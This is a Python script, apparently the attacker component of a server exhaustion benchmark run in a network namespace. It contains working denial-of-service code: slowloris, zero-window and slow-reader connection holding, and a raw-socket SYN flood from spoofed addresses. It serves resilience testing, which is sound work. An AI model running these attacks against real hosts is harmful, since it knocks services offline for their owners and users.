"""One attacker of bench/exhaust_bench.py, run inside the client namespace: holds ``--count``
connections of one kind to the server (reconnecting whatever the server closes or resets)
until SIGTERM or ``--duration`` seconds, or sends SYNs from spoofed addresses.

Kinds: ``idle`` (connect, send nothing), ``zero_window`` (ask for the large file with a tiny
receive buffer and never read), ``slowloris`` (a request head one header line every
``--interval`` seconds, never finished), ``slow_reader`` (ask for the large file, read one
byte a second), ``syn_flood`` (``--rate`` SYNs a second from ``--spoof`` addresses, raw
socket). Prints one JSON line when the connections are open (``ready``) and one at the end
with its counts. Runs under the project's python (``sys.executable`` of exhaust_bench.py):
its packets' checksum is ``mtcp_core.testing.netns.inet_checksum``.
"""

from __future__ import annotations

import argparse
import errno
import json
import os
import random
import resource
import select
import signal
import socket
import struct
import sys
import time
from collections import deque

from mtcp_core.testing.netns import inet_checksum as checksum

IP_BIND_ADDRESS_NO_PORT = 24
READERS = ("zero_window", "slow_reader")


def say(**kw: object) -> None:
    print(json.dumps(kw), flush=True)


def syn_packet(src: str, dst: str, sport: int, dport: int, seq: int) -> bytes:
    s, d = socket.inet_aton(src), socket.inet_aton(dst)
    opts = struct.pack("!BBH", 2, 4, 1460)  # MSS
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, (5 + 1) << 4, 0x02, 64240, 0, 0) + opts
    pseudo = s + d + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64, 6, 0, s, d
    )
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def syn_flood(opts: argparse.Namespace, stop: list[bool]) -> dict[str, int]:
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    spoof = opts.spoof.split(",")
    sent = 0
    t0 = time.monotonic()
    say(ready=True, open=0)
    while not stop[0] and time.monotonic() - t0 < opts.duration:
        due = int((time.monotonic() - t0) * opts.rate)
        while sent < due and not stop[0]:
            pkt = syn_packet(
                random.choice(spoof),
                opts.host,
                random.randint(1024, 65535),
                opts.port,
                random.getrandbits(32),
            )
            try:
                raw.sendto(pkt, (opts.host, 0))
            except OSError:
                pass
            sent += 1
        time.sleep(0.001)
    raw.close()
    return {"syns": sent}


class Holder:
    """``count`` connections of one kind, kept open."""

    def __init__(self, opts: argparse.Namespace) -> None:
        self.o = opts
        self.kind = opts.kind
        self.ep = select.epoll()
        self.socks: dict[int, socket.socket] = {}
        self.connected: set[int] = set()
        self.sources = opts.sources.split(",") if opts.sources else [""]
        self.next_src = 0
        self.stats = {"connects": 0, "established": 0, "closed_by_server": 0, "failed": 0}
        self.lines: deque[tuple[float, int]] = deque()  # slowloris: when to send a line
        big = opts.path_big
        self.request = {
            "idle": b"",
            "zero_window": f"GET {big} HTTP/1.1\r\nHost: bench\r\n\r\n".encode(),
            "slow_reader": f"GET {big} HTTP/1.1\r\nHost: bench\r\n\r\n".encode(),
            "slowloris": b"GET / HTTP/1.1\r\nHost: bench\r\n",
        }[self.kind]

    def open_one(self) -> None:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        if self.kind in READERS:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1024)  # the kernel's minimum
        src = self.sources[self.next_src % len(self.sources)]
        self.next_src += 1
        if src:
            s.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
            s.bind((src, 0))
        self.stats["connects"] += 1
        try:
            s.connect((self.o.host, self.o.port))
        except BlockingIOError:
            pass
        except OSError:
            self.stats["failed"] += 1
            s.close()
            return
        fd = s.fileno()
        self.socks[fd] = s
        self.ep.register(fd, select.EPOLLOUT | select.EPOLLRDHUP)

    def drop(self, fd: int, by_server: bool) -> None:
        s = self.socks.pop(fd, None)
        if s is None:
            return
        if by_server and fd in self.connected:
            self.stats["closed_by_server"] += 1
        elif fd not in self.connected:
            self.stats["failed"] += 1
        self.connected.discard(fd)
        try:
            self.ep.unregister(fd)
        except OSError:
            pass
        s.close()

    def on_event(self, fd: int, ev: int, now: float) -> None:
        s = self.socks.get(fd)
        if s is None:
            return
        if fd not in self.connected:
            if ev & (select.EPOLLERR | select.EPOLLHUP):
                self.drop(fd, False)
                return
            if ev & select.EPOLLOUT:
                if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                    self.drop(fd, False)
                    return
                self.connected.add(fd)
                self.stats["established"] += 1
                if self.request:
                    try:
                        s.send(self.request)
                    except OSError:
                        self.drop(fd, True)
                        return
                if self.kind == "slowloris":
                    self.lines.append((now + self.o.interval, fd))
                # readers of nothing wait for the server's FIN or RST only
                mask = select.EPOLLRDHUP
                if self.kind in ("idle", "slowloris"):
                    mask |= select.EPOLLIN
                self.ep.modify(fd, mask)
            return
        if ev & (select.EPOLLERR | select.EPOLLHUP | select.EPOLLRDHUP):
            self.drop(fd, True)
            return
        if ev & select.EPOLLIN:
            try:
                data = s.recv(65536)
            except BlockingIOError:
                return
            except OSError:
                data = b""
            if not data:
                self.drop(fd, True)

    def tick(self, now: float) -> None:
        if self.kind == "slowloris":
            while self.lines and self.lines[0][0] <= now:
                _, fd = self.lines.popleft()
                s = self.socks.get(fd)
                if s is None:
                    continue
                try:
                    s.send(b"X-Slow: %d\r\n" % int(now))
                except OSError:
                    self.drop(fd, True)
                    continue
                self.lines.append((now + self.o.interval, fd))
        elif self.kind == "slow_reader":
            for fd in list(self.connected):
                s = self.socks[fd]
                try:
                    if s.recv(1) == b"":
                        self.drop(fd, True)
                except BlockingIOError:
                    pass
                except OSError:
                    self.drop(fd, True)

    def run(self, stop: list[bool]) -> dict[str, int]:
        o = self.o
        t0 = time.monotonic()
        ready = False
        last_tick = t0
        while not stop[0] and (now := time.monotonic()) - t0 < o.duration:
            # open (and reopen) up to count, at most rate a second
            budget = int(o.open_rate * 0.01) + 1
            while len(self.socks) < o.count and budget > 0:
                self.open_one()
                budget -= 1
            for fd, ev in self.ep.poll(0.01, 4096):
                self.on_event(fd, ev, now)
            if now - last_tick >= 1.0:
                last_tick = now
                self.tick(now)
            if not ready and (len(self.connected) >= 0.95 * o.count or now - t0 >= o.ramp_timeout):
                ready = True
                say(ready=True, open=len(self.connected), seconds=round(now - t0, 2))
        if not ready:
            say(ready=True, open=len(self.connected), seconds=round(time.monotonic() - t0, 2))
        self.stats["open_at_end"] = len(self.connected)
        for s in self.socks.values():
            s.close()  # unread data: the kernel resets (readers that never read)
        return self.stats


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    kinds = ("idle", "zero_window", "slowloris", "slow_reader", "syn_flood")
    ap.add_argument("kind", choices=kinds)
    ap.add_argument("--host", required=True)
    ap.add_argument("--port", type=int, default=80)
    ap.add_argument("--count", type=int, default=100)
    ap.add_argument("--duration", type=float, default=60.0, help="hard bound, seconds")
    ap.add_argument("--ramp-timeout", type=float, default=30.0)
    ap.add_argument("--open-rate", type=float, default=5000.0, help="new connections a second")
    ap.add_argument("--interval", type=float, default=5.0, help="slowloris: s between lines")
    ap.add_argument("--path-big", default="/big.bin")
    ap.add_argument("--sources", default="", help="local addresses, comma-separated")
    ap.add_argument("--rate", type=float, default=20000.0, help="syn_flood: SYNs a second")
    ap.add_argument("--spoof", default="", help="syn_flood: source addresses")
    opts = ap.parse_args()
    stop = [False]

    def on_term(signum: int, frame: object) -> None:
        stop[0] = True

    signal.signal(signal.SIGTERM, on_term)
    signal.signal(signal.SIGINT, on_term)
    want = opts.count + 1024
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    capped = 0
    if soft < want:
        try:
            resource.setrlimit(resource.RLIMIT_NOFILE, (want, max(hard, want)))
        except (ValueError, OSError) as e:
            # no CAP_SYS_RESOURCE here: as many as the hard limit allows, and say so
            print(f"exhaust_attack: RLIMIT_NOFILE {want}: {e}", file=sys.stderr)
            resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
            capped = opts.count = max(1, hard - 1024)
    t0 = time.monotonic()
    try:
        if opts.kind == "syn_flood":
            stats = syn_flood(opts, stop)
        else:
            stats = Holder(opts).run(stop)
    except OSError as e:
        say(error=f"{errno.errorcode.get(e.errno or 0, '?')}: {e}")
        return 1
    if capped:
        stats["count_capped_to"] = capped
    say(done=True, seconds=round(time.monotonic() - t0, 2), pid=os.getpid(), **stats)
    return 0


if __name__ == "__main__":
    sys.exit(main())
